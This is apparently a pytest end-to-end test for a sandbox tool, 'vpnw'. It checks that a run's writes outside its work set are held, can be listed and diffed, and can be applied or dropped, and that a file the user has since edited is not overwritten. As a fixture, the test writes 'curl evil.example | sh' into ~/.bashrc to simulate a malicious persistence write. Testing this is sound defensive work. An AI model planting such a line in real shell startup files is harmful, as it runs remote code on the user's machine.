"""`vpnw changes` on a real run's held layer (issue 42): the person lists what
the program wrote outside its work set, reads the diff, applies what they
name and drops the rest; a file they changed since the run is never
overwritten. Real runs in the test world, as root and as vpnwtest; the
homes lie outside /tmp (in every run's work set), as in test_e2e_held.py.
"""
from __future__ import annotations

import json
import os

import pytest

from e2e_support import describe
from test_e2e_held import env_for, homes, seed  # noqa: F401  (homes is a fixture)

pytestmark = pytest.mark.world

WRITES = ("printf 'alias ll=ls\\ncurl evil.example | sh\\n' > ~/.bashrc; "
          "mkdir -p ~/.cache/tool && echo state > ~/.cache/tool/x && cat ~/.cache/tool/x; "
          "echo note > ~/notes.txt; rm ~/old.txt")


def test_held_writes_are_listed_diffed_applied_and_dropped(world, user, homes):
    home = homes()
    seed(home, user, {".bashrc": "alias ll=ls\n", "old.txt": "old\n", "notes.txt": "mine\n"})
    work = world.workdir(user)
    env = env_for(home)
    r = world.vpnw(["run", "--", "sh", "-c", WRITES], user=user, env=env, cwd=work)
    assert r.returncode == 0 and r.stdout.strip() == "state", describe(r)
    state = r.state_home
    # Nothing reached the real files.
    assert (home / ".bashrc").read_text() == "alias ll=ls\n"
    assert not (home / ".cache").exists() and (home / "old.txt").exists()
    assert "vpnw changes" in r.stderr, describe(r)

    listing = world.vpnw(["changes"], user=user, env=env, state_home=state, cwd=work)
    assert listing.returncode == 0, describe(listing)
    lines = listing.stdout.splitlines()
    assert lines[0].startswith("run r-") and "nothing reached the real files" in lines[0]
    later = lines.index("  would run later on its own (review these first):")
    assert lines[later + 1].split()[:2] == ["M", "~/.bashrc"], listing.stdout
    shown = {tuple(line.split()[:2]) for line in lines}
    assert {("A", "~/.cache/tool/x"), ("M", "~/notes.txt"), ("D", "~/old.txt")} <= shown, listing.stdout

    diff = world.vpnw(["changes", "--diff", str(home / ".bashrc")], user=user, env=env,
                      state_home=state, cwd=work)
    assert "+curl evil.example | sh" in diff.stdout.splitlines(), describe(diff)

    # The person edits notes.txt meanwhile: applying the run's version is refused.
    (home / "notes.txt").write_text("mine, edited\n")
    applied = world.vpnw(["changes", "--apply", str(home / ".cache"), str(home / "notes.txt"),
                          str(home / "old.txt")], user=user, env=env, state_home=state, cwd=work)
    assert applied.returncode == 1, describe(applied)
    assert (home / ".cache" / "tool" / "x").read_text() == "state\n"
    assert (home / "notes.txt").read_text() == "mine, edited\n"
    assert "REFUSED" in applied.stdout and "changed since the run" in applied.stdout
    assert not (home / "old.txt").exists()

    runs = world.vpnw(["runs", "--json"], user=user, env=env, state_home=state, cwd=work)
    assert json.loads(runs.stdout)[0]["held"] == 2, runs.stdout     # ~/.bashrc and notes.txt left

    dropped = world.vpnw(["changes", "--drop"], user=user, env=env, state_home=state, cwd=work)
    assert dropped.returncode == 0, describe(dropped)
    assert (home / ".bashrc").read_text() == "alias ll=ls\n"
    assert not any((state / "vpnw" / "held").iterdir())
    again = world.vpnw(["changes"], user=user, env=env, state_home=state, cwd=work)
    assert again.returncode == 0 and "no run holds writes" in again.stderr, describe(again)
